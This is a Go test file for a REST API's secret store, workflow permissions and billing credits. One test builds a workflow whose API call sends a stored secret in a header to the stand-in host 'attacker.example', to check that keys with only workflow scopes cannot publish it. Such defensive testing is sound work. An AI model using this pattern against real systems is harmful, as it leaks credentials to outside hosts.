package rest_test

import (
	"context"
	"net/http"
	"testing"

	"github.com/stretchr/testify/require"

	"atrium/ent"
	"atrium/ent/user"
	"atrium/internal/billing"
	"atrium/internal/platform/principal"
	"atrium/internal/platform/store"
	"atrium/internal/test/apitest"
	"atrium/internal/test/testkit"
)

// deactivate deactivates a user.
func deactivate(t *testing.T, s *apitest.Server, u *ent.User) {
	t.Helper()
	s.Write(t, func(ctx context.Context, tx *store.Tx) error {
		return tx.User.Update().Where(user.ID(u.ID)).SetStatus(user.StatusDeactivated).Exec(ctx)
	})
	s.World.Store.AuthorityChanged()
}

func TestSecretLife(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, s *apitest.Server) {
		as := s.A.AdminKey
		const first, second = "s3cr3t-first-value", "s3cr3t-second-value"
		never := []string{first, second, "sealed", "czNjcjN0"}
		made := s.Do(t, apitest.Scenario{
			As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"allowedHosts": []string{"*"}, "name": "API_TOKEN", "value": first, "description": "d"},
			WantData: map[string]any{"name": "API_TOKEN", "description": "d", "version": 1, "createdBy": as.UserID, "lastUsedAt": nil}, WantNot: never,
			WantAudit: &apitest.AuditWant{Action: "secret.created", ResourceType: "Secret", Outcome: "allowed", ActorID: as.KeyID},
		})
		require.False(t, made.Has("data.value"))
		path := "/v1/secrets/" + made.ID()
		s.Run(t, []apitest.Scenario{
			{Name: "list", As: as, Path: "/v1/secrets", WantContains: []string{"API_TOKEN"}, WantNot: never},
			{Name: "rotate", As: as, Method: http.MethodPatch, Path: path, Body: body{"value": second}, WantData: map[string]any{"version": 2}, WantNot: never},
			{Name: "describe", As: as, Method: http.MethodPatch, Path: path, Body: body{"description": nil}, WantData: map[string]any{"version": 2}, WantAudit: &apitest.AuditWant{Action: "secret.updated", Changed: []string{"description"}}},
			{Name: "value cannot go", As: as, Method: http.MethodPatch, Path: path, Body: body{"value": nil}, WantStatus: 400, WantFields: []string{"value"}},
			{Name: "value is a text", As: as, Method: http.MethodPatch, Path: path, Body: body{"value": 1}, WantStatus: 400, WantFields: []string{"value"}},
			{Name: "64 KiB", As: as, Method: http.MethodPatch, Path: path, Body: body{"value": long("x", 65536)}, WantData: map[string]any{"version": 3}},
			{Name: "more than 64 KiB", As: as, Method: http.MethodPatch, Path: path, Body: body{"value": long("x", 65537)}, WantStatus: 400, WantFields: []string{"value"}},
			{Name: "64 KiB are bytes", As: as, Method: http.MethodPatch, Path: path, Body: body{"value": long("ü", 32769)}, WantStatus: 400, WantFields: []string{"value"}},
			{Name: "name stays", As: as, Method: http.MethodPatch, Path: path, Body: body{"name": "B"}, WantStatus: 400, WantFields: []string{"name"}},
			{Name: "name's letters", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"allowedHosts": []string{"*"}, "name": "api-token", "value": first}, WantStatus: 400, WantFields: []string{"name"}, WantNot: never},
			{Name: "64 letters", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"allowedHosts": []string{"*"}, "name": long("A", 64), "value": first}, WantNot: never},
			{Name: "65 letters", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"allowedHosts": []string{"*"}, "name": long("A", 65), "value": first}, WantStatus: 400, WantFields: []string{"name"}},
			{Name: "no hosts", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"name": "B", "value": "v"}, WantStatus: 400, WantFields: []string{"allowedHosts"}},
			{Name: "a list without hosts", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"name": "B", "value": "v", "allowedHosts": []string{}}, WantStatus: 400, WantFields: []string{"allowedHosts"}},
			{Name: "a host is no address", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"name": "B", "value": "v", "allowedHosts": []string{"https://a.test/"}}, WantStatus: 400, WantFields: []string{"allowedHosts"}},
			{Name: "hosts", As: as, Method: http.MethodPatch, Path: path, Body: body{"allowedHosts": []string{"API.example.com.", "*.example.com"}}, WantData: map[string]any{"allowedHosts": []any{"api.example.com", "*.example.com"}, "version": 3},
				WantAudit: &apitest.AuditWant{Action: "secret.updated", Changed: []string{"allowedHosts"}}},
			{Name: "hosts stay", As: as, Method: http.MethodPatch, Path: path, Body: body{"allowedHosts": nil}, WantStatus: 400, WantFields: []string{"allowedHosts"}},
			{Name: "no value", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"allowedHosts": []string{"*"}, "name": "B", "value": ""}, WantStatus: 400, WantFields: []string{"value"}},
			{Name: "names are unique", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"allowedHosts": []string{"*"}, "name": "API_TOKEN", "value": second}, WantStatus: 409, WantCode: "conflict", WantNot: never},
			{Name: "another company's name", As: s.B.OwnerKey, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"allowedHosts": []string{"*"}, "name": "API_TOKEN", "value": second}, WantNot: never},
			{Name: "a secret is got without its value", As: as, Path: path, WantData: map[string]any{"id": made.ID(), "name": "API_TOKEN"}, WantNot: append([]string{`"value"`}, never...)},
			{Name: "an agent has no secrets", As: s.A.AgentKey, Path: "/v1/secrets", WantStatus: 403},
			{Name: "the audit log", As: as, Path: "/v1/audit?resourceType=Secret&pageSize=100", WantContains: []string{`"***"`}, WantNot: never},
			{Name: "delete", As: as, Method: http.MethodDelete, Path: path, WantAudit: &apitest.AuditWant{Action: "secret.deleted", ResourceID: made.ID()}},
			{Name: "the name is free again", As: as, Method: http.MethodPost, Path: "/v1/secrets", Body: body{"allowedHosts": []string{"*"}, "name": "API_TOKEN", "value": second}, WantData: map[string]any{"version": 1}, WantNot: never},
		})
		// One from before there were hosts has none.
		old := create(t, s, as, "/v1/secrets", body{"name": "OLD", "value": first, "allowedHosts": []string{"*"}})
		s.Write(t, func(ctx context.Context, tx *store.Tx) error {
			return tx.Secret.UpdateOneID(old).ClearAllowedHosts().Exec(ctx)
		})
		s.Do(t, apitest.Scenario{As: as, Path: "/v1/secrets/" + old, WantData: map[string]any{"allowedHosts": nil}})
		// The value cannot be read in the database either, and the stored answer of an idempotency key holds none.
		s.Do(t, apitest.Scenario{As: as, Method: http.MethodPost, Path: "/v1/secrets", Header: http.Header{"Idempotency-Key": {"k"}}, Body: body{"allowedHosts": []string{"*"}, "name": "KEPT", "value": first}, WantNot: never})
		rows, err := s.World.Store.Reader().Secret.Query().All(apitest.System())
		require.NoError(t, err)
		for _, row := range rows {
			require.NotContains(t, string(row.Sealed), "s3cr3t")
		}
		kept, err := s.World.Store.Reader().IdempotencyKey.Query().All(apitest.System())
		require.NoError(t, err)
		require.Len(t, kept, 1)
		require.NotContains(t, string(kept[0].Body), "s3cr3t")
	})
}

// A key that may write workflows alone cannot have a secret sent to a host of its choice.
func TestWritingWorkflowsReadsNoSecrets(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, s *apitest.Server) {
		create(t, s, s.A.AdminKey, "/v1/secrets", body{"name": "OPEN", "value": "hunter2", "allowedHosts": []string{"*"}})
		create(t, s, s.A.AdminKey, "/v1/secrets", body{"name": "SHOP", "value": "hunter2", "allowedHosts": []string{"shop.example.com"}})
		attacker := s.Key(t, s.A.Tenant, s.A.Tenant.Owner, apitest.KeyOptions{Scopes: []string{"workflows:read", "workflows:write"}})
		collecting := func(secret string) body {
			return body{"name": "W " + secret, "definition": body{
				"phases": []body{{"id": "start", "type": "START"}, {"id": "call", "type": "API_CALL", "config": body{
					"method": "GET", "url": "https://attacker.example/", "headers": body{"x-got": "${secrets." + secret + "}"}}}, {"id": "done", "type": "END"}},
				"transitions": []body{{"from": "start", "name": "next", "to": "call"}, {"from": "call", "name": "next", "to": "done"}},
			}}
		}
		publish := "/v1/workflows/" + create(t, s, attacker, "/v1/workflows", collecting("OPEN")) + "/publish"
		s.Run(t, []apitest.Scenario{
			{Name: "its list names others", As: attacker, Method: http.MethodPost, Path: "/v1/workflows", Body: collecting("SHOP"), WantStatus: 400, WantFields: []string{"definition.phases[call].config.url"}, WantContains: []string{"SHOP", "attacker.example"}},
			{Name: "it goes everywhere", As: attacker, Method: http.MethodPost, Path: publish, WantStatus: 403, WantCode: "forbidden", WantContains: []string{"secrets:write"},
				WantAudit: &apitest.AuditWant{Action: "workflow.published", Outcome: "denied", ActorID: attacker.KeyID}},
			{Name: "who may write secrets", As: s.A.AdminKey, Method: http.MethodPost, Path: publish, WantStatus: 200, WantData: map[string]any{"version": 1}},
			{Name: "once it is so, it may stay", As: attacker, Method: http.MethodPost, Path: publish, WantStatus: 200, WantData: map[string]any{"version": 1}},
		})
	})
}

func TestCredits(t *testing.T) {
	t.Parallel()
	each(t, func(t *testing.T, s *apitest.Server) {
		as := s.A.OwnerKey
		empty := s.Do(t, apitest.Scenario{As: as, Path: "/v1/billing/credits"})
		require.JSONEq(t, `{"balance":0,"currency":"usd","entries":[],"pagination":{"page":1,"pageSize":20,"totalPages":0,"totalCount":0}}`, string(empty.Body))
		for tenant, cents := range map[*testkit.Tenant]int64{s.A.Tenant: 5000, s.B.Tenant: 77_777_777} {
			ctx := principal.With(t.Context(), principal.Operator(tenant.Company.ID, "credit issue"))
			testkit.Run(t, s.World, ctx, billing.IssueCredit, billing.IssueCreditInput{Amount: cents, Reason: "promotion", Description: "Entry"})
		}
		require.Equal(t, 5000, s.Do(t, apitest.Scenario{As: as, Path: "/v1/billing/credits", WantNot: []string{"77777777"}}).Int("balance"))
		owner := s.World.As(s.A.Tenant, principal.Owner)
		s.Write(t, func(ctx context.Context, tx *store.Tx) error {
			return tx.Company.UpdateOneID(s.A.Tenant.Company.ID).SetPlan("free").Exec(ctx)
		})
		invoice := testkit.Run(t, s.World, owner, billing.ChangePlan, billing.PlanInput{Plan: "pro"}).Invoice
		got := s.Do(t, apitest.Scenario{As: as, Path: "/v1/billing/credits", WantNot: []string{"77777777"}})
		require.Equal(t, 2100, got.Int("balance"))
		require.False(t, got.Has("data"), "credits have no envelope")
		require.Equal(t, -2900, got.Int("entries.0.amount"))
		require.Equal(t, "applied", got.Text("entries.0.type"))
		require.Equal(t, invoice.ID, got.Text("entries.0.invoiceId"))
		require.Equal(t, 5000, got.Int("entries.1.amount"))
		require.False(t, got.Has("entries.1.invoiceId"), "only where it was applied")
		second := s.Do(t, apitest.Scenario{As: as, Path: "/v1/billing/credits?page=2&pageSize=1"})
		require.Equal(t, 2100, second.Int("balance"), "the balance is over all entries")
		require.Equal(t, 5000, second.Int("entries.0.amount"))
		require.Equal(t, body{"page": 2.0, "pageSize": 1.0, "totalPages": 2.0, "totalCount": 2.0}, second.Get("pagination"))
		s.Run(t, []apitest.Scenario{
			{Name: "past the end", As: as, Path: "/v1/billing/credits?page=9", WantContains: []string{`"entries":[]`, `"balance":2100`}},
			{Name: "too many at once", As: as, Path: "/v1/billing/credits?pageSize=101", WantStatus: 400, WantFields: []string{"pageSize"}},
			{Name: "an agent has no credits", As: s.A.Agent, Path: "/v1/billing/credits", WantStatus: 403},
			{Name: "credits are not posted", As: as, Method: http.MethodPost, Path: "/v1/billing/credits", Body: body{}, WantStatus: 405},
			{Name: "the sandbox has its own", As: s.A.TestKey, Path: "/v1/billing/credits", WantContains: []string{`"balance":0`}},
		})
	})
}
